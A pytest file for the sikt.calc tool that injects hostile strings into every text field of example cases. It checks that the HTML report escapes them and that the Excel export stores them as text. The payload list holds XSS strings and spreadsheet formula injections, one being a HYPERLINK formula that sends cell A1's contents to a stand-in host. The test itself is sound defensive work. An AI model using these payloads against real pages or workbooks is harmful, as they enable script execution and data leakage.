"""Hostile text in a case stays inert in every file ``sikt.calc`` writes (issue 13 item 2).

Every free-text field of the example cases is found by trial (a field keeps a payload when the
case still validates with it), so a text field added later is covered without editing the test.
"""

from __future__ import annotations

import io
from html.parser import HTMLParser
from typing import Any

import pytest
import yaml
from openpyxl import load_workbook

from sikt.calc import (
    InputError,
    example_case_paths,
    load_case,
    propose_repayment_plan,
    run_deterministic,
    run_monte_carlo,
)
from sikt.calc.export.xlsx import workbook_bytes

PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '=HYPERLINK("https://example.invalid/?d="&A1,"Öppna")',
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    '"><svg onload=alert(1)>',
)


def _leaves(data: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    if isinstance(data, dict):
        return [p for k, v in data.items() for p in _leaves(v, (*path, k))]
    if isinstance(data, list):
        return [p for i, v in enumerate(data) for p in _leaves(v, (*path, i))]
    return [path] if isinstance(data, str) else []


def _set(data: Any, path: tuple[Any, ...], value: str) -> None:
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


def hostile_case(path: Any, library: Any) -> tuple[Any, list[str]]:
    """The example with a payload in every text field that accepts one; returns the case and
    the payloads placed."""
    data = yaml.safe_load(path.read_text("utf-8"))
    placed: list[str] = []
    for number, leaf in enumerate(_leaves(data)):
        original: Any = data
        for part in leaf:
            original = original[part]
        payload = f"{PAYLOADS[number % len(PAYLOADS)]} #{number}"
        _set(data, leaf, payload)
        try:
            load_case(data, library)
        except InputError:
            _set(data, leaf, original)
        else:
            placed.append(payload)
    return load_case(data, library), placed


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _value in attrs)

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("path", example_case_paths(), ids=lambda p: p.stem)
def test_payloads_in_every_text_are_inert_in_the_html_report(path, library, full_report):
    case, placed = hostile_case(path, library)
    assert len(placed) >= 8  # names, descriptions, bearers, costs, outcomes, sources …
    html = full_report(case, library)
    parsed = _Elements()
    parsed.feed(html)
    assert not parsed.tags & {"img", "script", "iframe", "object"}
    assert not {a for a in parsed.attributes if a.startswith("on")}
    assert parsed.tags & {"svg"}  # the report's own charts are still there
    assert case.name in parsed.text  # the payload reached the report, as text
    assert sum(p in parsed.text for p in placed) >= 4


@pytest.mark.parametrize("path", example_case_paths(), ids=lambda p: p.stem)
def test_payloads_are_string_cells_in_the_workbook(path, library):
    case, placed = hostile_case(path, library)
    result = run_deterministic(case, library)
    book = load_workbook(
        io.BytesIO(
            workbook_bytes(
                case,
                result,
                library,
                run_monte_carlo(case, 200, 1, library),
                propose_repayment_plan(case, result, library),
            )
        )
    )
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(p in cell.value for p in placed):
                    found.append(cell.value)
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
    starts = {text[0] for text in found}
    assert starts & {"=", "+", "-", "@"}  # texts that would be formulas were written
